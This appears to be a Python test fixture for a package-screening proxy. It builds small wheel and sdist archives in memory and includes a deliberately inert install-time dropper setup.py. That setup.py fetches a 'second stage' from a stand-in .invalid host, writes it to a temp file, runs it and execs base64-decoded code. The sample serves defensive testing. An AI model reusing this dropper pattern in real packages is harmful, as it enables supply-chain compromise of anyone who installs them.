"""Tiny real distributions built in memory for the proxy tests (no build backend needed)."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile

from packaging.utils import canonicalize_name


def _record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"


def metadata_text(name: str, version: str, summary: str = "a tiny test package") -> str:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n\n"


def make_wheel(name: str, version: str, modules: dict[str, str] | None = None) -> tuple[str, bytes]:
    """A pure-Python wheel: ``(filename, bytes)``."""
    dist = canonicalize_name(name).replace("-", "_")
    modules = modules or {f"{dist}/__init__.py": f'__version__ = "{version}"\n'}
    info = f"{dist}-{version}.dist-info"
    files = dict(modules)
    files[f"{info}/METADATA"] = metadata_text(name, version)
    files[f"{info}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: snakewarden-tests\n"
        "Root-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = [
        f"{path},{_record_hash(text.encode())},{len(text.encode())}" for path, text in files.items()
    ]
    record.append(f"{info}/RECORD,,")
    files[f"{info}/RECORD"] = "\n".join(record) + "\n"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, text in files.items():
            zf.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), text)
    return f"{dist}-{version}-py3-none-any.whl", buf.getvalue()


def make_sdist(name: str, version: str, setup_py: str) -> tuple[str, bytes]:
    """A setuptools sdist with the given ``setup.py``: ``(filename, bytes)``."""
    dist = canonicalize_name(name).replace("-", "_")
    root = f"{dist}-{version}"
    files = {
        f"{root}/PKG-INFO": metadata_text(name, version),
        f"{root}/setup.py": setup_py,
        f"{root}/{dist}/__init__.py": "",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = 1_600_000_000
            tar.addfile(info, io.BytesIO(data))
    return f"{root}.tar.gz", buf.getvalue()


#: An install-time dropper, written for these tests and inert: it fetches a "second stage" from a
#: reserved name that never resolves (``.invalid``), writes it to a temporary file and runs it,
#: all from a custom ``install`` command. Nothing here can reach a real host.
DROPPER_SETUP = """
import base64, os, subprocess, sys, tempfile, urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        try:
            url = "http://payload.example.invalid/stage2.py"
            stage = urllib.request.urlopen(url, timeout=1).read()
        except Exception:
            stage = base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
        path = os.path.join(tempfile.gettempdir(), "stage2.py")
        with open(path, "wb") as fh:
            fh.write(stage)
        subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL)
        exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))
        install.run(self)


setup(
    name="dropper-demo",
    version="0.1",
    packages=["dropper_demo"],
    cmdclass={"install": PostInstall},
)
"""

BENIGN_SETUP = (
    "from setuptools import setup\n\n"
    'setup(name="plain-sdist", version="1.0", packages=["plain_sdist"])\n'
)
